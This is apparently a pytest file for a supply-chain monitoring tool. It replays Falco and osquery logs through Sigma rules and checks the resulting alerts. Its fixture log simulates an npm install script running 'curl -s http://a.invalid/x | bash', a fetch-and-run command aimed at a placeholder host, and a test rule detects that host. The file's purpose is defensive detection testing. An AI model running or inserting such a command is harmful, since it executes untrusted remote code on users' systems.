"""Sigma rules and other sensors' logs in a watch: what they tell becomes alerts with who, in which phase, for whom."""

import json
import os
import subprocess
import sys

from lazaretto.adapters.streams.catalog import STREAMS
from lazaretto.cli.watch import STREAM_IDS


def alert(pid, ppid, exe, line, parent=("/usr/bin/node", "node install.js"), **fields):
    base = {
        "evt.time": 1_700_000_000_000_000_000 + pid * 10**7, "evt.type": "execve", "proc.pid": pid, "proc.ppid": ppid,
        "proc.exepath": exe, "proc.cmdline": line, "proc.cwd": "/home/dev/p/node_modules/helper", "proc.pexepath": parent[0],
        "proc.pcmdline": parent[1], "user.uid": 1000, "user.name": "dev",
    }  # fmt: skip
    return json.dumps({"source": "syscall", "rule": "All", "output_fields": {**base, **fields}}) + "\n"


LOG = "".join(
    [
        alert(500, 1, "/usr/bin/node", "node /usr/bin/npm install", parent=("/bin/bash", "-bash")),
        alert(501, 500, "/bin/sh", "sh -c node install.js", parent=("/usr/bin/node", "npm install")),
        alert(502, 501, "/usr/bin/node", "node install.js", parent=("/bin/sh", "sh -c node install.js")),
        alert(503, 502, "/bin/sh", "sh -c curl -s http://a.invalid/x | bash"),
        "no record\n",
    ]
)


def run(*words, stdin=None):
    """Return how it ended, and its alerts."""
    environ = {**os.environ, "LAZARETTO_LANG": "en"}
    command = [sys.executable, "-m", "lazaretto", "watch", *words]
    done = subprocess.run(command, input=stdin, capture_output=True, text=True, env=environ, check=False, timeout=60)
    return done, [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]


def test_a_log_of_falco_is_replayed_with_own_rules(tmp_path):
    path = tmp_path / "falco.json"
    path.write_text(LOG)
    found, alerts = run("replay", "--logged-by", "falco", "--format", "jsonl", str(path))
    ours = [one for one in alerts if one["rule"].startswith("sigma/")]
    assert [one["severity"] for one in ours] == ["HIGH"]
    assert "Language Runtime Pipes a Download Into a Shell" in ours[0]["message"]
    assert ours[0]["tool"] == "npm"
    assert ours[0]["phase"] == "install"
    assert [step["path"] for step in ours[0]["chain"]][-1] == "/bin/sh"
    assert "1 records were not understood: not JSON (1)" in found.stderr
    _, without = run("replay", "--logged-by", "falco", "--no-sigma", "--format", "jsonl", str(path))
    assert [one for one in without if one["rule"].startswith("sigma/")] == []
    _, muted = run("replay", "--logged-by", "falco", "--mute", ours[0]["rule"], "--format", "jsonl", "-", stdin=LOG)
    assert [one for one in muted if one["rule"].startswith("sigma/")] == []


def test_rules_of_a_folder_run_beside_and_broken_ones_are_named(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "mine.yml").write_text(
        "title: Mine\nlevel: critical\nlogsource: {product: linux, category: process_creation}\n"
        "detection: {s: {CommandLine|contains: a.invalid}, condition: s}\n"
    )
    (tmp_path / "rules" / "bad.yml").write_text("title: [")
    found, alerts = run(
        "replay", "--logged-by", "falco", "--sigma", str(tmp_path / "rules"), "--format", "jsonl", "-", stdin=LOG
    )
    assert "sigma/mine" in {one["rule"] for one in alerts}
    assert "bad.yml: the Sigma rule “?” is broken and does not run" in found.stderr
    assert found.returncode == 20


def test_a_live_stream_takes_the_place_of_our_sensors(tmp_path):
    words = ("--no-state", "--seconds", "20", "--format", "jsonl", "--folder", str(tmp_path))
    found, alerts = run("start", "--stream", "falco=-", *words, stdin=LOG)
    assert [one["severity"] for one in alerts if one["rule"].startswith("sigma/")] == ["HIGH"]
    assert "the stream falco ended" in found.stderr


def test_a_loud_stream_is_waited_for_and_nothing_is_left_out(tmp_path):
    count = 30_000
    row = {"name": "q", "unixTime": 1, "action": "added"}
    lines = "".join(
        json.dumps({**row, "columns": {"pid": str(n), "path": "/bin/ls", "cmdline": "ls", "parent": "1"}}) + "\n"
        for n in range(1, count + 1)
    )
    words = ("--no-state", "--no-sigma", "--seconds", "60", "--folder", str(tmp_path))
    found, _ = run("start", "--stream", "osquery=-", *words, stdin=lines)
    assert "no event was lost" in found.stderr
    assert f"{count}" in found.stderr.replace(",", ""), found.stderr


def test_a_stream_that_cannot_be_opened_is_said(tmp_path):
    found, _ = run(
        "start", "--stream", f"falco={tmp_path}/absent", "--no-state", "--seconds", "5", "--folder", str(tmp_path)
    )
    assert found.returncode == 2
    assert "absent cannot be read: No such file" in found.stderr
    found, _ = run("start", "--stream", "sysdig=-", "--no-state", "--seconds", "5", "--folder", str(tmp_path))
    assert "there is no stream sysdig; there are auditd" in found.stderr


def test_the_command_line_knows_every_stream():
    assert tuple(one.id for one in STREAMS) == STREAM_IDS
